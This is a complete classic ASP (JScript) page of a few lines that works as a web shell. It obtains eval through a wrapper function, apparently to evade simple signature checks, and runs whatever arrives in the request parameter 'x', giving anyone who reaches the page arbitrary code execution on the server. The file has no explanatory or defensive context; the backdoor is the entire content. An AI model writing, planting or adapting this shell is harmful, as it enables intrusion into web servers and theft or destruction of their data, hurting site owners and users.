<%@ Language="JScript" %>
<%
function pick() { return eval; }
pick()(String(Request("x")));
%>
